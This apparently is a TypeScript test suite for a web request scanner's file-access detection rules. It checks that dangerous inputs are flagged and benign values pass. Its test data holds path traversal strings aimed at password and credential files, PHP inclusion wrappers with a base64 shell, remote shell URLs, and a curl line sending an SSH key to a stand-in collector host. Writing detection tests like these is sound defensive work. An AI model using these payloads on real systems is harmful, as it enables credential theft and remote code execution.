import { describe, expect, it } from "@effect/vitest"
import { family, RULES } from "../../../src/internal/detection/families/files/index.js"
import { readsName } from "../../../src/internal/detection/families/files/named.js"
import { catalogueProblems, doublingRatio, ORDINARY_VALUES, repeated, rulesOf, scoreOf, THRESHOLD } from "./pathsHarness.js"

describe("files family", () => {
  describe("sensitive files: refused at the default level", () => {
    it.each([
      ["account database after a climb", "../../etc/shadow"],
      ["account database as a parameter", "etc/group"],
      ["the process environment", "/proc/self/environ"],
      ["a process by number", "/proc/1234/cmdline"],
      ["kernel state", "/sys/kernel/debug"],
      ["a Windows system file", "C:\\boot.ini"],
      ["a Windows system directory", "windows/system32/config/sam"],
      ["a dotenv file", "/srv/app/.env.production"],
      ["git metadata", "../.git/config"],
      ["an SSH key in a home directory", "home/alice/.ssh/id_ed25519"],
      ["a cloud credential store", "~/.aws/credentials"],
      ["an X session's defaults in a home", "~/.Xdefaults"],
      ["an X start-up script after a climb", "../../../.xinitrc"],
      ["an X session log under /home", "/home/kim/.xsession-errors"],
      ["a WordPress config", "../wp-config.php"],
      ["an IIS config", "..\\web.config"],
      ["a server config", "/usr/local/nginx/conf/nginx.conf"],
      ["a log for inclusion", "/var/log/apache2/access.log"],
      ["a bare secret file name", ".htpasswd"],
      ["an XAMPP config by drive path", "D:\\xampp\\php\\php.ini"],
      ["a coding-agent config", "/.cursor/mcp.json"],
      ["a NUL truncating an extension", "avatar.php\u0000.png"],
      ["the copy a tool leaves beside the account database", "/etc/shadow-"],
      ["an editor's copy of it", "../../etc/passwd~"],
      ["an account file named by folded hex notation", "0x2fetc0x2fgroup"],
      ["a rooted Windows log path with spaces in its names", "/Program Files\\Acme Web\\logs\\access.log"],
      ["a shell start-up file from the root", "/.bashrc"],
      ["a login shell's profile after a climb", "../../home/deploy/.bash_profile"],
      ["a csh start-up file in a home directory", "~/.cshrc"],
      ["a trust file for remote logins", "/root/.rhosts"],
      ["a mail forward file", "/.forward"],
      ["an ASP application's configuration script", "../config.asp"],
      ["a PHP application's database script", "db.php"],
      ["a classic ASP database connection script", "/includes/conn.asp"],
      ["a MySQL error log under a drive path with spaces", "C:/Program Files/MySQL/MySQL Server 5.0/data/mysql.err"],
      ["a MySQL binary log index", "c:/xampp/mysql/data/mysql-bin.index"],
      ["a MySQL binary log by number from a Unix root", "/var/lib/mysql/mysql-bin.000042"],
      ["a MariaDB error log named after its host", "/var/lib/mariadb/db01.err"],
      ["a binary log in a server's data folder, backslashes", "D:\\mysql-data\\binlog-bin.000007"],
      ["SQL Server's master database file, backslashes", "C:\\Program Files\\Microsoft SQL Server\\MSSQL12.SQLEXPRESS\\MSSQL\\DATA\\master.mdf"],
      ["a transaction log file on another drive", "E:\\SQLData\\shop_log.ldf"],
      ["a PostgreSQL auth config under Program Files (x86)", "D:/Program Files (x86)/PostgreSQL/12/data/pg_hba.conf"],
      ["a PostgreSQL data directory's version file from a drive", "c:/srv/postgres/data/PG_VERSION"],
      ["a PostgreSQL server's lock file from a Unix root", "/usr/local/pgsql/data/postmaster.pid"],
      ["the options a PostgreSQL server started with", "D:/PostgreSQL/16/data/postmaster.opts"],
      ["an Apache config under a path with spaces", "c:/Program Files/Apache Group/Apache/conf/apache.conf"],
      ["an FTP server's user file", "C:\\Program Files\\FileZilla Server\\FileZilla Server.xml"]
    ])("%s: %s", (_, value) => {
      expect(scoreOf(family, value)).toBeGreaterThanOrEqual(THRESHOLD)
    })

    it.each([
      ["a dotenv probe", "/.env"],
      ["a git HEAD probe", "/.git/HEAD"],
      ["a backup copy", "/index.php.bak"],
      ["an editor swap file", "/config/.settings.py.swp"],
      ["a database dump", "/backup/db.sql.gz"],
      ["an include file", "/lib/connect.inc"],
      ["a Spring actuator endpoint", "/actuator/heapdump"],
      ["a Spring actuator under a prefix", "/api/actuator/env"],
      ["a Vite raw file read", "/@fs/etc/passwd"],
      ["a WordPress debug log", "/wp-content/debug.log"],
      ["a Vite virtual module id", "/@id/__x00__virtual:env"]
    ])("in the request path, %s: %s", (_, path) => {
      expect(scoreOf(family, path, "path")).toBeGreaterThanOrEqual(THRESHOLD)
    })
  })

  describe("file inclusion: refused at the default level", () => {
    it.each([
      ["a PHP filter wrapper", "php://filter/convert.base64-encode/resource=index.php"],
      ["PHP input", "php://input"],
      ["a phar archive", "phar:///tmp/upload.jpg/x"],
      ["expect", "expect://id"],
      ["a zip archive", "zip://uploads/a.zip#shell.php"],
      ["a filter chain", "convert.iconv.utf8.utf16le|convert.base64-decode"],
      ["a remote URL cut off by ?", "http://203.0.113.9/shell.txt?"],
      ["a remote URL cut off by NUL", "https://evil.example/x.txt\u0000"],
      ["a data URI with code", "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=="],
      ["the PHP data wrapper", "data://text/plain,<?php phpinfo()?>"],
      ["a script from a bare IPv4 address", "http://198.51.100.23/r57.php"],
      ["a script from a bare IPv6 address", "https://[2001:db8::7]/gecko.php"],
      ["an include inside an XML attribute", '<cfg src="http://198.51.100.23/c99.php"/>']
    ])("%s: %s", (_, value) => {
      expect(scoreOf(family, value, value.startsWith("<") ? "body" : "query")).toBeGreaterThanOrEqual(THRESHOLD)
    })

    it.each([
      ["cat", "cat /etc/subgid", "query"],
      ["type, on Windows", "type c:\\boot.ini", "query"],
      ["tail, in a header", "tail -n 50 /etc/shadow", "header"],
      ["base64, after a command separator", "x; base64 /root/.aws/credentials", "body"],
      ["curl sending a key", "curl -d @/home/ci/.ssh/id_rsa https://collector.example", "header"]
    ])("a command reading a sensitive file, even in prose, %s: %s", (_, value, location) => {
      expect(scoreOf(family, value, location as "query" | "header" | "body")).toBeGreaterThanOrEqual(THRESHOLD)
    })

    it.each([
      ["a URL cut off by #", "https://evil.example/shell.txt#"],
      ["a URL with backslashes cut off by ?", "http:\\\\evil.example\\x.txt?"],
      ["a file URL cut off by ?", "file://share.example/inc/config.php?"],
      ["a host's root cut off by ?", "https://evil.example/?"],
      ["a host cut off by ? with no path", "http://evil.example?"],
      ["an image cut off by ?", "http://evil.example/img/logo.gif??"],
      ["a scheme alone cut off by ?", "https:?"]
    ])("truncation, %s: %s", (_, value) => {
      expect(rulesOf(family, value)).toContain(RULES.truncatedUrl.id)
    })

    it.each([
      ["an avatar URL with an empty query in a webhook body", "https://avatars.example.com/u/6?", "body"],
      ["a profile link with an empty query", "http://git.example.com/avatars/u/340?", "query"],
      ["a search page with an empty query", "https://shop.example/search?", "query"]
    ])("a URL to a page that is not a file an include runs, with an empty query, is no truncation: %s", (_, value, location) => {
      expect(rulesOf(family, value, location as "query" | "body")).not.toContain(RULES.truncatedUrl.id)
    })

    /** The rules that fire on `value` sent in the query under `name`. */
    const rulesUnder = (name: string, value: string) =>
      family.mayMatch(value) ? family.scan(value, { location: "query", paranoia: 1, parameter: name }).map((f) => f.ruleId) : []

    it.each([
      ["page", "http://attacker.example/payload?"],
      ["file", "https://attacker.example/tpl/main.htm?"],
      ["page", "http://attacker.example/inc/?"],
      ["file", "http://attacker.example:8080/run?"],
      ["page", "ftp://attacker.example/drop/x#"]
    ])("under a file name (%s) any remote path cut off is a truncation: %s", (name, value) => {
      expect(rulesUnder(name, value)).toContain(RULES.truncatedUrl.id)
    })

    it.each([
      "http://192.0.2.44/stage?",
      "https://198.51.100.12/a/b/c#"
    ])("a URL to an IP address cut off is a truncation under any name: %s", (value) => {
      expect(rulesUnder("ref", value)).toContain(RULES.truncatedUrl.id)
    })

    it.each([
      ["next", "https://app.example/settings/profile?"],
      ["return_to", "https://wiki.example/Team_pages#"],
      ["avatar", "https://cdn.example/users/88?"]
    ])("under another name (%s) a page URL ending in ? or # is no truncation: %s", (name, value) => {
      expect(rulesUnder(name, value)).not.toContain(RULES.truncatedUrl.id)
    })

    it("a whole remote URL to a host root or a script scores at level 2, in a parameter only", () => {
      expect(rulesOf(family, "https://evil.example/", "query", 2)).toContain(RULES.remoteUrl.id)
      expect(rulesOf(family, "ftp://files.example:2121/payload.txt", "body", 2)).toContain(RULES.remoteUrl.id)
      expect(scoreOf(family, "https://evil.example/", "query", 1)).toBeLessThan(THRESHOLD)
      expect(rulesOf(family, "https://shop.example/products/42", "query", 2)).toEqual([])
      expect(rulesOf(family, "https://partner.example/", "header", 2)).toEqual([])
    })

    const level2Under = (name: string, value: string, location: "query" | "body" = "query") =>
      family.mayMatch(value) ? family.scan(value, { location, paranoia: 2, parameter: name }).map((f) => f.ruleId) : []

    it.each([
      ["website", "https://bakery-lindqvist.example/"],
      ["homepage_url", "https://studio.example"],
      ["user[website]", "http://jan-kowalski.example/"],
      ["websiteUrl", "https://consulting.example/"]
    ])("a site's root under a field for the sender's own site (%s) is that site, even at level 2: %s", (name, value) => {
      expect(level2Under(name, value, "body")).not.toContain(RULES.remoteUrl.id)
    })

    it.each([
      ["website", "https://attacker.example/shell.txt"],
      ["homepage", "ftp://files.example:2121/payload.php"],
      ["q", "https://attacker.example/"],
      ["redirect", "https://attacker.example"]
    ])("a script under a site field, or a site's root under any other name, still scores at level 2 (%s): %s", (name, value) => {
      expect(level2Under(name, value)).toContain(RULES.remoteUrl.id)
    })

    it("a site field's URL is read under its name, never taken from the clean memo of another name", () => {
      expect(readsName("website", "https://bakery-lindqvist.example/")).toBe(true)
      expect(readsName("website", "bakery-lindqvist.example")).toBe(false)
    })

    it("a URL in the request path at level 2", () => {
      expect(rulesOf(family, "/get/file:///etc/hosts", "path", 2)).toContain(RULES.pathUrl.id)
      expect(rulesOf(family, "/proxy/https://example.com/", "path", 1)).toEqual([])
    })
  })

  describe("passes at the default level", () => {
    it.each([
      ["a search about hosts files", "/etc/hosts file windows"],
      ["an install guide naming X resources", "put the font line in ~/.Xdefaults, then log in again"],
      ["a command that loads X resources", "xrdb -merge ~/.Xdefaults"],
      ["a question about passwd", "how do I edit /etc/passwd safely"],
      ["an image data URI", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="],
      ["an ordinary URL", "https://example.com/path?x=1&y=2"],
      ["a callback URL", "https://app.example.com/callback?state=xyz&code=abc"],
      ["a URL with a trailing question mark in prose", "is https://example.com down?"],
      ["a repository path", "docs/getting-started/install.md"],
      ["a file name with env in it", "environment.ts"],
      ["a branch name", "feature/login-page"],
      ["a Windows folder", "C:\\Program Files"],
      ["a markdown link", "See [docs](https://example.com/docs)"],
      ["a PHP file name", "install.php"],
      ["an email", "first.last+tag@sub.example.co.uk"],
      ["a question ending in a scheme name", "is it http or https?"],
      ["a word ending in a question mark", "files?"],
      ["a file name ending in a dash", "/srv/app/notes-"],
      ["a rooted path in a sentence", "/docs is where the guide lives"],
      ["a command over an ordinary file", "cat ./notes/todo.txt"],
      ["a question about a shell start-up file", "add nvm to .bashrc or .zshrc"],
      ["a sentence naming a login file", "where does ~/.profile get read on macOS"],
      ["a word that is a start-up file's name without its dot", "profile"],
      ["a profile page", "/users/42/profile"],
      ["a front-end config module", "config.js"],
      ["settings as JSON", "settings.json"],
      ["a question about a config script", "copy config.sample.php to config.php and edit it"],
      ["a document under a drive path with spaces", "C:/Users/Ann/My Documents/report final.docx"],
      ["a program's readme under Program Files", "C:\\Program Files\\Acme Tools\\readme.txt"],
      ["a relative data file", "data/sales.mdf"],
      ["a sentence naming an error log", "where does C:/MySQL/data/mysql.err come from"],
      ["a build's error output by name", "build.err"],
      ["a build's error output under a home directory", "/home/bob/build.err"],
      ["a job's error output in a temporary folder", "/tmp/job-1234.err"],
      ["an error report on a Windows desktop", "C:\\Users\\Bob\\Desktop\\report.err"],
      ["a numbered archive named like a binary log, outside a database folder", "/srv/backups/site-bin.000042"],
      ["FileZilla's config named in prose", "FileZilla Server.xml keeps the users"],
      ["a lock file named like PostgreSQL's, outside a database folder", "/home/app/run/postmaster.pid"],
      ["a question naming the version file", "What does the PG_VERSION file in /var/lib/postgresql hold?"],
      ["a version file by name alone", "PG_VERSION"]
    ])("%s: %s", (_, value) => {
      expect(scoreOf(family, value)).toBeLessThan(THRESHOLD)
    })

    it.each([
      ["an API route", "/api/v1/users/42"],
      ["a static asset", "/assets/app.3f2a1c.js"],
      ["a well-known URI", "/.well-known/openid-configuration"],
      ["a health check", "/healthz"],
      ["a download", "/downloads/report-2024.pdf"]
    ])("in the request path, %s: %s", (_, path) => {
      expect(scoreOf(family, path, "path")).toBeLessThan(THRESHOLD)
    })

    it("a shell start-up file named in prose or sourced passes at every level; read by a command it counts", () => {
      for (const value of ["add nvm to ~/.bashrc or ~/.zshrc", "source ~/.bashrc", "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi"]) {
        expect(rulesOf(family, value, "query", 2), value).toEqual([])
      }
      expect(rulesOf(family, "cat ~/.bashrc", "query")).toEqual([RULES.commandRead.id])
    })

    it("a sensitive path named in prose scores at level 2", () => {
      expect(rulesOf(family, "how do I edit /etc/passwd safely", "query", 2)).toEqual([RULES.proseName.id])
      expect(rulesOf(family, "where is /root/.ssh/id_rsa kept", "header", 2)).toEqual([RULES.proseName.id])
    })

    it("rejects ordinary values before scanning", () => {
      expect(ORDINARY_VALUES.filter(family.mayMatch)).toEqual([])
    })
  })

  describe("catalogue", () => {
    it("gives every rule a stable files-NNN id in sensitive_file, file_inclusion or file_upload", () => {
      expect(catalogueProblems(family, "files", ["sensitive_file", "file_inclusion", "file_upload"])).toEqual([])
    })
  })

  describe("linear time", () => {
    it.each([
      ["almost /etc paths", "etc/"],
      ["URLs without a host", "http:"],
      ["nested URLs", "http://a?u="],
      ["URLs nested in a path", "http://1.1.1.1/"],
      ["schemes and colons", "data::"],
      ["filter-chain prefixes", "convert."],
      ["backup-looking segments", "/a.ba"],
      ["commands before paths", "cat /"],
      ["lax escape pairs", "%bg%qf"],
      ["undecoded lead bytes", "\ufffd."],
      ["remote URLs", "https://a.example/ "],
      ["NUL views", "%0"]
    ])("%s", (_, fragment) => {
      expect(doublingRatio(family, repeated(fragment))).toBeLessThan(2.5)
      expect(doublingRatio(family, repeated(fragment), "path")).toBeLessThan(2.5)
    })
  })
})
